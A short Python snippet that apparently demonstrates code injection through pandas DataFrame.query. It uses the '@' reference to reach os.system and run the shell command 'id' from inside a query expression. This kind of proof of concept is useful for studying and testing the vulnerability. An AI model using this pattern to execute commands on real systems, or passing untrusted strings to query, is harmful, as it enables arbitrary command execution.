import pandas as pd

df = pd.DataFrame({"a": [1, 2]})
print(df.query("@pd.io.common.os.system('id') == 0"))
